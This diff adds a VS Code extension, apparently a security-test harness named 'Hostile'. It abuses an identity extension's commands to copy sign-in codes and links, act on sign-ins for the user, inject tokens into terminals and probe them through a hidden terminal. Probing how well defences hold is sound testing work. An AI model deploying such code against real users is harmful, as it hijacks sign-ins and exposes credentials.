@@ -1,0 +1,127 @@
+import { mkdtemp, readFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import * as vscode from 'vscode';
+
+/** Commands of VS Code that press the focused item of a list. */
+const LIST = ['workbench.action.acceptSelectedQuickOpenItem', 'quickInput.accept', 'list.select'];
+/** Commands of VS Code that press the first button of a message. That of a sign-in cancels it. */
+const MESSAGE = [
+  'notifications.showList',
+  'list.select',
+  'notification.acceptPrimaryAction',
+  'notifications.focusToasts',
+  'notification.acceptPrimaryAction',
+];
+/** A press before the list or the message is there does nothing. */
+const ROUNDS = 20;
+
+export function activate(context: vscode.ExtensionContext): void {
+  // A message could be behind a dialog, so the loot is in the log.
+  const log = vscode.window.createOutputChannel('Hostile', { log: true });
+  const register = (command: string, steal: () => Promise<string>): void => {
+    const tell = async (): Promise<void> => {
+      log.info(`${command} has ${await steal()}. End.`);
+    };
+    context.subscriptions.push(vscode.commands.registerCommand(`hostile.${command}`, tell));
+  };
+  context.subscriptions.push(log);
+  register('copySignIn', copySignIn);
+  register('readNotification', readNotification);
+  register('readPage', readPage);
+  register('takeTerminalTokens', takeTerminalTokens);
+  register('pressMessages', pressMessages);
+}
+
+/** Runs a command, and does not wait for it: it can wait for the person. */
+function start(command: string, ...args: unknown[]): void {
+  void vscode.commands.executeCommand(command, ...args).then(undefined, () => undefined);
+}
+
+async function run(command: string): Promise<void> {
+  await vscode.commands.executeCommand(command).then(undefined, () => undefined);
+}
+
+/** VS Code draws meanwhile. */
+function wait(): Promise<void> {
+  return new Promise((resolve) => setTimeout(resolve, 100));
+}
+
+async function press(commands: readonly string[]): Promise<void> {
+  for (let round = 0; round < ROUNDS; round++) for (const command of commands) await run(command);
+}
+
+/** What the work has put on the clipboard. */
+async function loot(work: () => Promise<void>): Promise<string> {
+  await vscode.env.clipboard.writeText('');
+  await work();
+  return vscode.env.clipboard.readText();
+}
+
+async function copySignIn(): Promise<string> {
+  const stolen: string[] = [];
+  for (const command of ['bapIdentity.copySignInCode', 'bapIdentity.copySignInLink'])
+    stolen.push(
+      await loot(async () => {
+        start(command);
+        await press(LIST);
+      }),
+    );
+  return stolen.join();
+}
+
+/** Copies what VS Code shows to a screen reader, finds the id of the sign-in there, and acts for the person with it. */
+async function readNotification(): Promise<string> {
+  const text = await loot(async () => {
+    await run('notifications.showList');
+    await run('editor.action.accessibleView');
+    await run('editor.action.selectAll');
+    await run('editor.action.clipboardCopyAction');
+  });
+  const id = /%22([0-9a-f-]{36})%22/.exec(text)?.[1];
+  const copied = await loot(async () => {
+    start('_bapIdentity.signIn.copyLink', id);
+    await press(LIST);
+  });
+  return `${text} and ${copied}`;
+}
+
+/** Selects and copies the page that has the focus. */
+async function readPage(): Promise<string> {
+  return loot(async () => {
+    for (let round = 0; round < ROUNDS; round++) {
+      await run('editor.action.selectAll');
+      await run('editor.action.clipboardCopyAction');
+      await wait();
+    }
+  });
+}
+
+async function takeTerminalTokens(): Promise<string> {
+  const folder = await mkdtemp(path.join(tmpdir(), 'hostile-'));
+  const stolen: string[] = [];
+  for (const mode of ['identityAndAdomToken', 'identityAndTokens']) {
+    const { Global } = vscode.ConfigurationTarget;
+    await vscode.workspace.getConfiguration().update('bapIdentity.terminal.environment', mode, Global);
+    await press([...LIST, ...MESSAGE]);
+    stolen.push(await environmentOf(path.join(folder, mode)));
+  }
+  return stolen.join();
+}
+
+/** Which variables a terminal has that nobody sees. */
+async function environmentOf(file: string): Promise<string> {
+  const terminal = vscode.window.createTerminal({ hideFromUser: true });
+  const names = '${BAP_ID:+id}${ADOMPKG_TOKEN:+ Adom}${CLAWNET_TOKEN:+ Sigma}';
+  terminal.sendText(`echo "[${names}]" > ${file}.part; mv ${file}.part ${file}`);
+  for (;;) {
+    const text = await readFile(file, 'utf8').catch(() => undefined);
+    if (text !== undefined) return text.trim();
+    await wait();
+  }
+}
+
+async function pressMessages(): Promise<string> {
+  await press([...LIST, ...MESSAGE]);
+  return environmentOf(path.join(await mkdtemp(path.join(tmpdir(), 'hostile-')), 'environment'));
+}
